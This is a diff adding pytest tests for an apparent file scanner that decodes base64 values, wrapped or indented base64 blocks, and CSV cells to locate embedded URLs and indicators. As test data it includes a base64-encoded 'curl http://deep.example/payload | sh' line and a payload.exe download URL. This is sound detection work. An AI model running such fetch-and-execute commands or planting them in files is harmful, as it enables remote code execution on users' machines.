@@ -285,6 +285,41 @@ def test_wrapped_base64_of_a_file_is_read_as_that_file() -> None:
 @pytest.mark.parametrize(
     "text",
     [
+        "payload={}",
+        "GET /r?u={} HTTP/1.1",
+        "https://tracker.example/click/{}",
+        "data:\n  first: {0}\n  second: {0}",
+    ],
+)
+def test_base64_as_a_value_and_in_a_path_is_decoded(text: str) -> None:
+    code = base64.b64encode(b"http://deep.example/payload.exe").decode().rstrip("=")
+    assert Examined("a.txt", text.format(code).encode()).places("http://deep.example/payload.exe")
+
+
+@pytest.mark.parametrize("indent", ["", "    ", "\t"])
+def test_base64_may_be_wrapped_and_indented(indent: str) -> None:
+    code = base64.b64encode(b"curl http://deep.example/payload | sh # " * 9).decode()
+    wrapped = "".join(f"{indent}{code[start : start + 60]}\n" for start in range(0, len(code), 60))
+    text = Examined("a.yaml", f"secret: |\n{wrapped}other: 1\n".encode())
+    assert [report.where for report in text.report.inner] == [("line 2",)]
+    assert text.places("http://deep.example/payload") == ["a.yaml › line 2 › base64, line 1"]
+
+
+def test_a_url_in_a_table_ends_with_its_cell() -> None:
+    table = (
+        "url,kind,seen\nhttp://a.example/x,bad,b.example\n"
+        'hxxp://c[.]example/,bad,10.0.0.1\n"http://d.example/x,y","a,b",z\n'
+    )
+    text = Examined("a.csv", table.encode())
+    assert text.places("http://a.example/x") == text.places("b.example") == ["a.csv, line 2"]
+    assert text.places("http://c.example/") == ["a.csv, line 3"]
+    assert text.places("http://d.example/x,y") == ["a.csv, line 4"]
+    assert Examined("a.csv", table.replace(",", ";").encode()).places("http://a.example/x") == ["a.csv, line 2"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
         "ThisIsJustALongIdentifierNameInSomeSourceCode",
         "/usr/share/locale/some/rather/long/path/name",
